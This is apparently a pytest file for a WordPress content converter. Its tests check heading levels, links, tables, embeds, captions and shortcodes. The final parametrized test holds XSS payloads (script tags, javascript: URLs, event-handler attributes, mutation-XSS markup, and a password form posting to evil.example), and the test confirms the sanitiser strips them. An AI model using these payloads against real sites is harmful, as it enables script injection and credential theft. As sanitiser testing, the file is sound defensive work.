"""Texts become blocks of ours; what has no block is kept safe, and nothing readable is lost."""

from __future__ import annotations

import json
from typing import Any

import pytest

from communique.migration.wordpress.conversion import Attached, Link, Surroundings, convert

from .reader import page


def blocks(text: str, **known: Any) -> list[tuple[str, Any]]:
    return [(block["type"], block["value"]) for block in convert(text, Surroundings(**known)).body]


def kinds(text: str, **known: Any) -> list[str]:
    return [kind for kind, _ in blocks(text, **known)]


def only(text: str, **known: Any) -> Any:
    ((_, value),) = blocks(text, **known)
    return value


def with_pictures(number: int, address: str) -> int | None:
    return 70 + number if number else None


# Headings


@pytest.mark.parametrize(
    ("tags", "levels"),
    [("h1 h2 h3", [2, 3, 4]), ("h2 h3 h2", [2, 3, 2]), ("h3 h4", [2, 3]), ("h1 h2 h3 h4 h5 h6", [2, 3, 4, 4, 4, 4])],
)
def test_the_highest_heading_of_a_text_is_of_the_second_level_and_none_is_skipped(tags, levels):
    text = "".join(f"<{tag}>X</{tag}>" for tag in tags.split())
    assert [value["level"] for _, value in blocks(text)] == levels


def test_headings_keep_their_anchor_or_get_one_and_no_two_the_same():
    text = '<h2 id="ports">A</h2><h2>Gas</h2><h2>Gas</h2><h2 id="ports">B</h2>'
    assert [value["anchor"] for _, value in blocks(text)] == ["ports", "gas", "gas-2", "b"]


def test_a_heading_with_a_link_is_kept_as_it_was():
    assert only('<h3><a href="https://a.example/">A</a></h3>')["html"] == '<h2><a href="https://a.example/">A</a></h2>'


# Lines


@pytest.mark.parametrize(
    ("stored", "rich"),
    [
        ("<strong>a</strong> <em>b</em> <del>c</del>", "<b>a</b> <i>b</i> <s>c</s>"),
        ("x<sup>2</sup> <tt>y</tt>", "x<sup>2</sup> <code>y</code>"),
        ('<span style="color:red">a</span> <font color="red">b</font>', "a b"),
        ("a &lt;b&gt; &amp; c", "a &lt;b&gt; &amp; c"),
        ('<a href="https://a.example/?x=1&amp;y=2">a</a>', '<a href="https://a.example/?x=1&amp;y=2">a</a>'),
        ('<a href="mailto:a@b.example">a</a>', '<a href="mailto:a@b.example">a</a>'),
        ('<a href="javascript:alert(1)">a</a>', "a"),
        ('<a href=" java\nscript:alert(1)">a</a>', "a"),
        ('<a href="data:text/html,x">a</a>', "a"),
        ('<a href="#">a</a> <a name="x">b</a>', "a b"),
        ('<b onclick="x()">a</b>', "<b>a</b>"),
        ("wo<b></b>rd", "word"),
        ('🙂 <img class="emoji" alt="🙃" src="https://s.example/x.svg">', "🙂 🙃"),
    ],
)
def test_what_stands_in_a_line(stored, rich):
    assert only(f"<p>{stored}</p>") == f"<p>{rich}</p>"


def test_a_line_that_says_more_than_rich_text_is_kept_as_it_was():
    assert only('<p>The <abbr title="United Nations">UN</abbr></p>')["html"] == (
        '<p>The <abbr title="United Nations">UN</abbr></p>'
    )


def test_links_lead_to_pages_here_and_within_the_text():
    text = '<h2 id="x">X</h2><p><a href="/a/">a</a> <a href="#x">b</a> <a href="#gone">c</a></p>'
    _, (_, rich) = blocks(text, link=lambda address: Link(address, 5))
    assert rich == '<p><a linktype="page" id="5">a</a> <a href="#x">b</a> c</p>'


def test_a_link_around_blocks_goes_into_each_of_them():
    text = '<a href="https://a.example/"><div><p>One</p>Two</div></a>'
    assert only(text) == ('<p><a href="https://a.example/">One</a></p><p><a href="https://a.example/">Two</a></p>')


# Blocks


def test_a_quotation_has_its_attribution():
    assert only("<blockquote><p>A</p><p>B</p><cite>Bilal</cite></blockquote>") == {
        "text": "<p>A</p><p>B</p>",
        "attribution": "Bilal",
    }


def test_a_quotation_that_holds_a_list_is_kept_as_it_was():
    html = only("<blockquote><p>A</p><ul><li>B</li></ul></blockquote>")["html"]
    assert html == "<blockquote><p>A</p><ul><li>B</li></ul></blockquote>"


def test_lists_hold_lists():
    assert only("<ol><li>A<ul><li>B</li></ul></li><li><p>C</p></li></ol>") == (
        "<ol><li>A<ul><li>B</li></ul></li><li>C</li></ol>"
    )


@pytest.mark.parametrize("attributes", ['start="4"', "reversed", 'type="a"'])
def test_a_list_that_counts_its_own_way_is_kept_as_it_was(attributes):
    assert kinds(f"<ol {attributes}><li>A</li></ol>") == ["imported"]


def test_a_plain_table_is_a_table():
    value = only("<table><thead><tr><th>A</th><th>B</th></tr></thead><tr><td>1</td><td><b>2</b></td></tr></table>")
    assert [column["heading"] for column in value["columns"]] == ["A", "B"]
    assert value["rows"] == [{"values": ["1", "<b>2</b>"]}]


@pytest.mark.parametrize(
    "table",
    [
        '<table><tr><td colspan="2">A</td></tr><tr><td>1</td><td>2</td></tr></table>',
        "<table><tr><th>A</th><td>1</td></tr></table>",
        "<table><tr><td><ul><li>A</li></ul></td></tr></table>",
        "<table><tr><td>A</td></tr><tr><td>1</td><td>2</td></tr></table>",
        "<table><tr><td>A</td></tr><tfoot><tr><td>1</td></tr></tfoot></table>",
    ],
)
def test_any_other_table_is_kept_as_it_was(table):
    assert kinds(table) == ["imported"]


def test_code_is_shown_letter_by_letter():
    assert only('[sourcecode language="html"]<b>[gallery]</b>\n\n&lt;i&gt;[/sourcecode]') == {
        "text": "<b>[gallery]</b>\n\n<i>",
        "language": "html",
    }
    assert only('<pre><code class="language-python">a\n  b</code></pre>') == {"text": "a\n  b", "language": "python"}


def test_details_are_details_if_they_hold_only_text():
    assert only("<details><summary>More</summary><p>A</p><ul><li>B</li></ul></details>") == {
        "summary": "More",
        "text": "<p>A</p><ul><li>B</li></ul>",
    }
    assert kinds("<details><summary>More</summary><h3>A</h3></details>") == ["imported"]


@pytest.mark.parametrize(
    ("stored", "address"),
    [
        ("[embed]https://youtu.be/abcdefghijk[/embed]", "https://youtu.be/abcdefghijk"),
        ("[youtube abcdefghijk]", "https://www.youtube.com/watch?v=abcdefghijk"),
        ("[youtube=https://youtu.be/abcdefghijk]", "https://youtu.be/abcdefghijk"),
        (
            '<iframe src="//www.youtube.com/embed/abcdefghijk?rel=0"></iframe>',
            "https://www.youtube.com/watch?v=abcdefghijk",
        ),
        ('<iframe src="https://player.vimeo.com/video/12345"/>', "https://vimeo.com/12345"),
        (
            '<!-- wp:embed {"url":"x"} --><figure class="wp-block-embed"><div class="wp-block-embed__wrapper">\n'
            "https://vimeo.com/12345\n</div></figure><!-- /wp:embed -->",
            "https://vimeo.com/12345",
        ),
    ],
)
def test_what_is_elsewhere_is_linked_to(stored, address):
    assert only(stored)["url"] == address


def test_a_frame_from_anywhere_is_for_editors_only():
    assert kinds('<iframe src="https://adverts.example/x"></iframe>') == ["unresolved"]


def test_a_reusable_block_stands_where_it_is_used():
    text = '<!-- wp:block {"ref":4} /--><!-- wp:block {"ref":5} /-->'
    assert kinds(text, reusable={4: "<!-- wp:paragraph --><p>A</p><!-- /wp:paragraph -->"}.get) == [
        "paragraph",
        "unresolved",
    ]


def test_a_reusable_block_that_holds_itself_comes_to_an_end():
    assert convert(
        '<!-- wp:block {"ref":4} /-->', Surroundings(reusable=lambda _: 'A <!-- wp:block {"ref":4} /-->')
    ).body


# Pictures


def test_both_forms_of_captions_are_captions():
    for text in (
        '[caption id="a"]<a href="/x"><img class="wp-image-3" src="/x.jpg"/></a> At <em>dawn</em>[/caption]',
        '[caption id="a" caption="At &lt;em&gt;dawn&lt;/em&gt;"]<img class="wp-image-3" src="/x.jpg"/>[/caption]',
        '<figure><img class="wp-image-3" src="/x.jpg"/><figcaption>At <em>dawn</em></figcaption></figure>',
    ):
        value = only(text, picture=with_pictures)
        assert (value["picture"], value["caption"]) == (73, "At <i>dawn</i>")


def test_a_caption_is_kept_where_the_picture_is_missing():
    (missing, kept), (figure, value) = blocks('[caption]<img src="/x.jpg" alt="X"/> At dawn[/caption]')
    assert (missing, figure, value["picture"], value["caption"]) == ("unresolved", "figure", None, "At dawn")
    assert json.loads(kept["attributes"]) == {"address": "/x.jpg", "alt": "X"}


def test_pictures_in_a_line_stand_beside_it():
    assert kinds('<p><img class="wp-image-3" src="/x.jpg"> One</p>', picture=with_pictures) == ["figure", "paragraph"]
    assert kinds('<p>One <img class="wp-image-3" src="/x.jpg"></p>', picture=with_pictures) == ["paragraph", "figure"]


def test_counting_pixels_are_left_out():
    assert kinds('<p>One<img width="1" height="1" src="https://count.example/x.gif"></p>') == ["paragraph"]


def test_galleries_are_pictures_one_after_another():
    chosen = [Attached(3, "/3.jpg", "A"), Attached(4, "/4.jpg", "B", "Said")]
    found = blocks('[gallery ids="3,4"]', gallery=lambda ids, exclude: chosen, picture=with_pictures)
    assert [(kind, value["picture"], value["caption"]) for kind, value in found] == [
        ("figure", 73, ""),
        ("figure", 74, "Said"),
    ]
    old = (
        '<ul class="wp-block-gallery"><li><figure><img class="wp-image-3" src="/3.jpg"><figcaption>S</figcaption>'
        '</figure></li><li><figure><img class="wp-image-4" src="/4.jpg"></figure></li></ul>'
    )
    assert kinds(old, picture=with_pictures) == ["figure", "figure"]


# What is not brought yet


def test_an_unknown_shortcode_is_for_editors_and_what_it_encloses_for_readers():
    converted = convert('One [strange a="1"]two[/strange] three\n\n[other_form]')
    assert "".join(page(converted.body).split()) == "<p>Onetwothree</p>"
    assert converted.not_brought == {"[strange]": 1, "[other_form]": 1}
    kept = next(block["value"] for block in converted.body if block["type"] == "unresolved")
    assert kept == {"name": "[strange]", "attributes": 'a="1"', "original": '[strange a="1"]'}


def test_editorial_brackets_stay():
    assert only("He said [sic] so [1], see [[gallery]].") == "<p>He said [sic] so [1], see [gallery].</p>"


def test_a_plugins_block_keeps_its_words_and_is_counted():
    text = (
        '<!-- wp:acme/card {"x":1} --><div class="card"><span>One</span><!-- wp:heading --><h2>Two</h2>'
        "<!-- /wp:heading --></div><!-- /wp:acme/card --><!-- wp:acme/form /-->"
    )
    converted = convert(text)
    assert [block["type"] for block in converted.body] == ["paragraph", "heading", "unresolved"]
    assert converted.blocks["acme/card"] == 1
    assert converted.not_brought == {"acme/form": 1}


def test_page_builders_give_up_their_layout_and_keep_their_words():
    text = '[vc_row][vc_column width="1/2"][vc_column_text]One[/vc_column_text][/vc_column][/vc_row][et_pb_text]Two'
    assert page(convert(text).body) == "<p>One</p><p>Two</p>"


# What must not get through


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        '<dl><dt onmouseover="alert(1)">A</dt><dd style="position:fixed">B<script>alert(1)</script></dd></dl>',
        '<table><tr><td colspan=2><a href="javascript:alert(1)">x</a><img src=x onerror=alert(1)></td></tr></table>',
        '<svg onload="alert(1)"><script>alert(1)</script></svg>',
        '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
        '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
        '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
        '<iframe srcdoc="<script>alert(1)</script>" src="javascript:alert(1)"></iframe>',
        '<h2><a href="javascript:alert(1)">x</a></h2><abbr title="&quot;><script>alert(1)</script>">y</abbr>',
        '[caption caption="<script>alert(1)</script>"]<img src="x.jpg">[/caption]',
        "<details open ontoggle=alert(1)><summary>x</summary><h2>y</h2></details>",
        '<base href="https://evil.example/"><link rel=stylesheet href=x><meta http-equiv=refresh content="0;url=x">',
    ],
)
def test_nothing_that_runs_or_calls_home_gets_through(hostile):
    shown = page(convert(hostile).body).lower()
    for danger in (
        "<script",
        "javascript:",
        "onerror",
        "onload",
        "onmouseover",
        "ontoggle",
        "style=",
        "<form",
        "<input",
    ):
        assert danger not in shown
    assert "evil.example" not in shown


@pytest.mark.parametrize("tag", ["div", "b", "ul><li", "blockquote", "table><tr><td", "section", "a href=x"])
def test_a_text_nested_beyond_reason_is_still_read(tag):
    names = [part.split()[0] for part in tag.split("><")]
    text = f"<{tag}>" * 3000 + "deep" + "".join(f"</{name}>" for name in reversed(names)) * 3000
    assert "deep" in page(convert(text).body)


def test_the_same_text_gives_the_same_blocks():
    text = "<h2>A</h2>One\n\n[x_form]\n\n<img src='/a.jpg'>"
    assert convert(text, Surroundings(key="a")).body == convert(text, Surroundings(key="a")).body
    assert convert(text, Surroundings(key="a")).body != convert(text, Surroundings(key="b")).body
